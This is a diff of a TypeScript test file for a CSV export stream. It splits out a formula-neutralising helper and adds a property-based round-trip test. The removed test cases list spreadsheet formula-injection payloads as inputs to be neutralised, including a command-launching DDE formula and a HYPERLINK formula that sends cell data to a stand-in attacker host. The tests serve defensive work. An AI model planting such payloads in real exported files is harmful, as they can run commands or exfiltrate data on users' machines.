@@ -1,67 +1,20 @@
-import { buffer } from 'node:stream/consumers';
+import { Readable } from 'node:stream';
+import { buffer, text } from 'node:stream/consumers';
 
 import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
 
-import { csvStream, harmlessText, type CsvCell } from './csv.js';
+import { cellsOf } from '../../../test/support/table-rows.js';
+import type { Cell } from '../../kernel/table.js';
+import { delimitedRows } from '../tables/delimited.js';
+import { dialectOf } from '../tables/dialect.js';
+import { encodingOf, textOf } from '../tables/encoding.js';
+import { csvStream } from './csv.js';
+import type { FileCell } from './file-cell.js';
+import { harmlessText, readHarmlessText } from './harmless-text.js';
 
-const file = (...rows: CsvCell[][]): Promise<string> =>
+const file = (...rows: FileCell[][]): Promise<string> =>
   buffer(csvStream(['what'], rows)).then(String);
-
-describe('text in a cell', () => {
-  it.each([
-    '=1+1',
-    '+1+1',
-    '-1+1',
-    '@SUM(1+1)',
-    '\t=1+1',
-    '\r=1+1',
-    '\n=1+1',
-    '\tharmless by itself',
-    '=1+2";=1+2',
-    '=1+2\'" ;,=1+2',
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
-    '@evil',
-    '-5',
-    '＝1+1',
-    '＋1',
-    '－1',
-    '＠SUM(1)',
-    ' =1+1',
-    '\u00a0=1+1',
-    '\u200b=1+1',
-    '\ufeff \u2060@SUM(1)',
-  ])('cannot become a formula: %j', (evil) => {
-    expect(harmlessText(evil).startsWith("'")).toBe(true);
-  });
-
-  it.each([
-    ['a;=1+1', "a;'=1+1"],
-    ['a; ＠b', "a; '＠b"],
-    ['a\n=1+1', "a\n'=1+1"],
-    ['a\r\n+1', "a\r\n'+1"],
-    ['a\t-1', "a\t'-1"],
-    ['a;"=1+1', `a;"'=1+1`],
-    ['a\n"=1+1"', `a\n"'=1+1"`],
-    ['a; "" =1+1', `a; "" '=1+1`],
-    ['a;\u200b=1+1', "a;\u200b'=1+1"],
-  ])('hides none from a spreadsheet that separates by another sign: %j', (evil, harmless) => {
-    expect(harmlessText(evil)).toBe(harmless);
-  });
-
-  it.each([
-    'Toulouse – Lyon',
-    'a=b',
-    'camille@example.org',
-    '1-2',
-    '{"a":[1,-5]}',
-    '',
-    'été; hiver',
-    '"a"; "b=c"',
-  ])('stays as it is where it is none: %j', (said) => {
-    expect(harmlessText(said)).toBe(said);
-  });
-});
 
 describe('a CSV file', () => {
   it('begins with the mark of UTF-8 and quotes every text', async () => {
@@ -78,10 +31,42 @@ describe('a CSV file', () => {
   });
 
   it('breaks off where its rows do', async () => {
-    const rows = async function* (): AsyncGenerator<CsvCell[]> {
+    const rows = async function* (): AsyncGenerator<FileCell[]> {
       yield ['one'];
       await Promise.reject(new Error('the database went away'));
     };
     await expect(buffer(csvStream(['what'], rows()))).rejects.toThrow('the database went away');
+  });
+
+  it('is read back equal by what reads the files of others, whatever its cells hold', async () => {
+    const awkward = fc
+      .array(
+        fc.constantFrom(
+          ...["'", '=', '-', '@', ';', ',', '"', '""', '\t', '\n', '|', ' ', 'a', 'é', '🏉'],
+          ...['a;b', '","', ';;;', '\u200b'],
+        ),
+        { maxLength: 8 },
+      )
+      .map((signs) => signs.join(''));
+    const tables = fc
+      .integer({ min: 3, max: 6 })
+      .chain((width) => fc.array(fc.array(awkward, { minLength: width, maxLength: width })));
+    await fc.assert(
+      fc.asyncProperty(tables, async (table) => {
+        const head = Array.from(
+          { length: table[0]?.length ?? 3 },
+          (_, at) => `account.column${at}`,
+        );
+        const bytes = await buffer(csvStream(head, table));
+        const open = () => textOf(Readable.from([bytes]), encodingOf(bytes));
+        const dialect = dialectOf(await text(open()));
+        const read = (cell: Cell): Cell =>
+          typeof cell === 'string' ? readHarmlessText(cell) : cell;
+        const found = (await cellsOf(delimitedRows(open(), dialect))).map((row) => row.map(read));
+        const kept = table.filter((row) => row.some((cell) => harmlessText(cell).trim() !== ''));
+        expect(found).toEqual([head, ...kept.map((row) => row.map((cell) => cell || null))]);
+      }),
+      { numRuns: 300 },
+    );
   });
 });
